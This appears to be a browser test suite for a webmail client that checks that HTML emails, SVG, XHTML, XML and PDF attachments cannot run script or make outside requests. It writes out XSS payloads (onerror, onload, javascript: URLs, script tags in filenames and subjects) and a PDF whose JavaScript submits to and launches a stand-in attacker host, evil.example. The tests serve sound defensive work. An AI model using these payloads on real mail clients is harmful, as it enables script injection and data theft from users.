// HTML that tries everything: no script runs, and no request leaves while remote content is blocked.
import { base, browse, check, sendRaw } from "./browser.mjs";
import { payloads } from "./payloads.mjs";

const evil = "http://evil.example";
// The one load that the policy of a frame allows: a picture of ours. So it would be seen.
const run = `new Image().src='${base}/ran'`;
const all = payloads(evil, run);
check(all.length >= 60, `${all.length} payloads`);

const message = (subject, type, body) =>
  `From: ann@example.org\r\nTo: bob@example.org\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n` +
  `Content-Type: ${type}\r\n\r\n${body}\r\n`;
const found = async (q) => {
  const answer = await fetch(`${base}/api/messages?limit=200&wait=10&q=${encodeURIComponent(q)}`);
  return (await answer.json()).messages;
};

await browse({}, async (page, seen, context) => {
  const ran = [];
  page.on("request", (request) => { if (request.url().includes("/ran")) ran.push(request.url()); });
  const nothing = (when) => {
    check(ran.length === 0, `script ran, ${when}`);
    check(seen.dialogs.length === 0, `dialogs opened, ${when}: ${seen.dialogs}`);
  };
  const silent = (when) => {
    nothing(when);
    check(seen.foreign.length === 0, `requests left, ${when}: ${seen.foreign.join(", ")}`);
  };
  // All at once in frames like ours; resolves when each has loaded.
  const frames = (urls) => page.evaluate(async (urls) => {
    document.body.replaceChildren();
    await Promise.all(urls.map((url) => new Promise((loaded) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
      frame.onload = loaded;
      frame.src = url;
      document.body.append(frame);
    })));
  }, urls);

  await Promise.all(all.map((payload, number) =>
    sendRaw(message(`payload ${number}`, "text/html; charset=utf-8", `<p>visible ${number}</p>${payload}`))));
  const hostile = [];
  for (const { id, subject } of await found("subject:payload")) hostile[Number(subject.split(" ")[1])] = id;
  check(hostile.length === all.length && !hostile.includes(undefined), "all have arrived");

  // As shown.
  await page.goto(`${base}/help`);
  await frames(hostile.map((id) => `/messages/${id}/frame`));
  await page.waitForTimeout(300);
  silent("shown in frames");
  check(page.frames().length === hostile.length + 1, `${page.frames().length} frames: none made others`);
  for (const frame of page.frames().slice(1)) {
    check(/visible \d+/.test(await frame.locator("body").innerText()), `${frame.url()} shows its text`);
  }
  await frames(hostile.map((id) => `/messages/${id}/frame?scheme=dark`));
  silent("in the dark");

  // The policy alone holds, too: the same frames without the sanitiser.
  await page.route(/\/frame\?bare/, async (route) => {
    const answer = await route.fetch();
    const number = Number(new URL(route.request().url()).searchParams.get("bare"));
    await route.fulfill({ response: answer, body: `<!doctype html><p>bare</p>${all[number]}` });
  });
  await frames(all.map((_, number) => `/messages/${hostile[0]}/frame?bare=${number}`));
  await page.waitForTimeout(500);
  silent("with the policy alone");

  // With remote content allowed pictures come, and still no script runs.
  await frames(hostile.map((id) => `/messages/${id}/frame?remote=1`));
  await page.waitForTimeout(300);
  nothing("with remote content");
  check(seen.foreign.some((url) => url.endsWith("/pixel.gif")), "asked for, pictures are loaded");
  const acting = seen.foreign.filter((url) => /\.(js|css)$|refresh|form|ping|frame|object|embed|video|audio|prefetch|import/.test(url));
  check(acting.length === 0, `only pictures and fonts are: ${acting}`);
  seen.foreign.length = 0;

  // Our own page around them stays ours, in every view.
  const closing = all.findIndex((payload) => payload.includes("outside?"));
  const over = all.findIndex((payload) => payload.includes("over everything"));
  for (const number of [closing, over]) {
    const id = hostile[number];
    for (const tab of ["html", "text", "markup", "links", "print"]) {
      await page.goto(`${base}/messages/${id}/${tab}`);
      check(tab === "print" || (await page.locator("main > article.message h1").innerText()) === `payload ${number}`, `${tab} of ${number} is ours`);
    }
    silent(`in the views of ${number}`);
  }
  // Links open elsewhere or not at all: the page that shows the mail cannot be taken away.
  const leaving = hostile[all.findIndex((payload) => payload.includes("target=_top"))];
  await page.goto(`${base}/messages/${leaving}/html`);
  const popup = context.waitForEvent("page");
  await page.frameLocator("iframe").locator("#top").click();
  await (await popup).close();
  check(page.url() === `${base}/messages/${leaving}/html`, "a link with target=_top opens a page of its own");
  seen.foreign.length = 0;

  // What is attached is no better.
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${evil}/svg"/><rect width="9" height="9"/></svg>`;
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${evil}/pdf'\\);app.launchURL\\('${evil}/launch'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>`;
  const part = (type, name, body) => `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n`;
  await sendRaw(message(`attached <img src=x onerror="${run}">`, "multipart/mixed; boundary=b",
    `--b\r\nContent-Type: text/plain\r\n\r\njavascript:${run} <script>${run}</script> http://x.example/"onmouseover="${run}\r\n` +
    part("image/svg+xml", "a.svg", svg) + part("text/html", `<img src=x onerror=${run}>.html`, `<script>${run}</script><p>visible</p>`) +
    part("application/xhtml+xml", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${run}</script>visible</body></html>`) +
    part("application/pdf", "a.pdf", pdf) + part("text/xml", "a.xml", `<?xml-stylesheet href="${evil}/xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run}</h:script></a>`) +
    part("message/rfc822", "a.eml", message("inner", "text/html", `<script>${run}</script><img src="${evil}/inner"><p>visible</p>`)) + "--b--"));
  const [{ id: attached }] = await found("subject:attached");
  for (const tab of ["/text", "/parts", "/headers", ...[2, 3, 4, 5, 6, 7].map((number) => `/parts/${number}/view`)]) {
    await page.goto(`${base}/messages/${attached}${tab}`);
    if (tab === "/parts/5/view") await page.getByText("This document may run script").waitFor();
  }
  await page.waitForTimeout(200);
  silent("in attachments");
  check(seen.errors.length === 0, `no script of ours failed: ${seen.errors}`);
});
